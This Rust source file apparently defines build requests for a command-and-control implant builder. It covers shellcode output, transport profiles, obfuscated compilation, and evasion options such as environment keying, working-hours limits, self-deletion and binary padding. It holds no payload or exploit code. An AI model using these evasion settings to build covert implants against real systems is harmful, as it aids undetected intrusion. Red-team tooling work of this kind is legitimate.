//! Build requests as received from the orchestrator.

use std::fmt;

use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::platform::{Target, TargetArch, TargetOs};
use crate::profile::TransportProfile;

/// Output shape of a build.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum BuildMode {
  #[default]
  #[serde(rename = "default-executable")]
  Executable,
  #[serde(rename = "shared")]
  SharedLibrary,
  /// Shared library converted to position-independent shellcode. The
  /// conversion step is not implemented; builds in this mode always fail
  /// after compilation.
  #[serde(rename = "windows-shellcode")]
  Shellcode,
}

impl BuildMode {
  pub fn as_str(&self) -> &'static str {
    match self {
      Self::Executable => "default-executable",
      Self::SharedLibrary => "shared",
      Self::Shellcode => "windows-shellcode",
    }
  }

  /// Whether the toolchain produces a C shared object for this mode.
  pub fn is_shared_object(&self) -> bool {
    matches!(self, Self::SharedLibrary | Self::Shellcode)
  }

  /// The `-buildmode` value passed to the Go toolchain.
  pub fn go_buildmode(&self) -> &'static str {
    if self.is_shared_object() { "c-shared" } else { "default" }
  }
}

impl fmt::Display for BuildMode {
  fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
    write!(f, "{}", self.as_str())
  }
}

/// Optional build parameters embedded alongside the transport profile.
///
/// Empty strings are treated as unset.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct BuildParameters {
  pub host_header: Option<String>,
  pub proxy_url: Option<String>,
  pub tls_verify: Option<String>,
  pub tcp_bind_address: Option<String>,
  pub working_hours_start: Option<String>,
  pub working_hours_end: Option<String>,
  pub working_days: Option<String>,
  pub env_key_hostname: Option<String>,
  pub env_key_domain: Option<String>,
  pub env_key_username: Option<String>,
  pub env_key_process: Option<String>,
  pub self_delete: bool,

  /// Comma-separated hex byte pattern, e.g. `0x41,0x42`.
  pub inflate_bytes: Option<String>,
  /// Number of times the pattern is repeated.
  pub inflate_count: Option<String>,
}

impl BuildParameters {
  /// Value of the parameter called `name`, if it is set to something
  /// non-empty. `self_delete` reads as `"true"` when enabled.
  pub fn get(&self, name: &str) -> Option<&str> {
    let value = match name {
      "host_header" => self.host_header.as_deref(),
      "proxy_url" => self.proxy_url.as_deref(),
      "tls_verify" => self.tls_verify.as_deref(),
      "tcp_bind_address" => self.tcp_bind_address.as_deref(),
      "working_hours_start" => self.working_hours_start.as_deref(),
      "working_hours_end" => self.working_hours_end.as_deref(),
      "working_days" => self.working_days.as_deref(),
      "env_key_hostname" => self.env_key_hostname.as_deref(),
      "env_key_domain" => self.env_key_domain.as_deref(),
      "env_key_username" => self.env_key_username.as_deref(),
      "env_key_process" => self.env_key_process.as_deref(),
      "self_delete" => self.self_delete.then_some("true"),
      "inflate_bytes" => self.inflate_bytes.as_deref(),
      "inflate_count" => self.inflate_count.as_deref(),
      _ => None,
    };
    value.filter(|v| !v.is_empty())
  }
}

/// Everything needed to build one payload. Immutable once received.
///
/// `architecture`, `mode` and `garble` are required; a request missing any
/// of them fails to deserialize.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct BuildRequest {
  /// Build identifier; embedded in the binary and used to name the output.
  pub payload_id: String,

  pub selected_os: TargetOs,

  pub architecture: TargetArch,

  pub mode: BuildMode,

  /// Transport profiles selected by the operator. Exactly one is required.
  #[serde(default, alias = "c2_profiles")]
  pub profiles: Vec<TransportProfile>,

  /// Use the obfuscating compiler wrapper and encode sensitive constants.
  #[serde(alias = "garble")]
  pub obfuscate: bool,

  #[serde(default, alias = "build_parameters")]
  pub parameters: BuildParameters,
}

#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub enum RequestError {
  #[error("must select exactly one transport profile, got {0}")]
  ProfileCount(usize),

  #[error("missing required build parameter: payload_id")]
  MissingPayloadId,

  #[error("payload_id may only contain ASCII letters, digits, '-' and '_': {0}")]
  InvalidPayloadId(String),

  #[error("transport profile name must be non-empty ASCII letters, digits and '_': {0:?}")]
  InvalidProfileName(String),

  #[error("windows-shellcode mode is only supported for Windows targets, not {0}")]
  ShellcodeRequiresWindows(TargetOs),

  #[error("failed to parse inflate byte '{0}'")]
  InvalidInflateByte(String),

  #[error("inflation of {0} bytes exceeds the padding limit")]
  PaddingTooLarge(usize),
}

impl BuildRequest {
  pub fn target(&self) -> Target {
    Target::new(self.selected_os, self.architecture)
  }

  /// Check the request and return its single transport profile.
  pub fn validate(&self) -> Result<&TransportProfile, RequestError> {
    let profile = match self.profiles.as_slice() {
      [profile] => profile,
      other => return Err(RequestError::ProfileCount(other.len())),
    };

    if self.payload_id.is_empty() {
      return Err(RequestError::MissingPayloadId);
    }
    if !self
      .payload_id
      .chars()
      .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
    {
      return Err(RequestError::InvalidPayloadId(self.payload_id.clone()));
    }

    // The name becomes a build tag; separators would smuggle in extra tags.
    if profile.name.is_empty() || !profile.name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
      return Err(RequestError::InvalidProfileName(profile.name.clone()));
    }

    if self.mode == BuildMode::Shellcode && self.selected_os != TargetOs::Windows {
      return Err(RequestError::ShellcodeRequiresWindows(self.selected_os));
    }

    Ok(profile)
  }
}
